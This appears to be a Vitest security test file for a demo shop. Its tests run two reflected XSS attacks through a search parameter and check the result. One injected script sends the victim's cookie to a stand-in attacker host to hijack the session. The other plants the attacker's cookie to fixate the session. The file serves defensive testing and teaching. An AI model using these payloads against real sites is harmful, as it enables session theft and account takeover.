import { describe } from "vitest";
import {
  anonymousCookie,
  attackInBrowser,
  EVIL,
  opensTheVictims,
  post,
  SHOP,
  visit,
} from "./in-a-browser.js";

describe("scripts of others in the page (XSS)", () => {
  attackInBrowser(
    "a script that a link brings in sends the cookie home, and the thief is logged in",
    async ({ victim, attacker, heard }) => {
      const script = `<script>new Image().src = ${JSON.stringify(`${EVIL}/?`)} + encodeURIComponent(document.cookie)</script>`;
      await victim.goto(`${SHOP}/search?q=${encodeURIComponent(script)}`, { waitUntil: "networkidle" });
      return opensTheVictims(
        heard.find((text) => text !== ""),
        await attacker(),
      );
    },
    // So that "the front end can read it", as many answers have it.
    { naive: { cookie: { httpOnly: false } } },
  );

  attackInBrowser(
    "a script plants the attacker's cookie, and the next login is the attacker's, too",
    async ({ victim, attacker }) => {
      const page = await attacker();
      const { name, value } = await anonymousCookie(page);
      await victim.context().clearCookies();
      const script = `<script>document.cookie = ${JSON.stringify(`${name}=${value}; Path=/; Secure`)}</script>`;
      await victim.goto(`${SHOP}/search?q=${encodeURIComponent(script)}`);
      await post(victim, "/login/victim");
      return (await visit(page)).user === "victim";
    },
    // Else the page's own cookie, which scripts can't replace, is there before the script.
    { naive: { saveUninitialized: false } },
  );
});
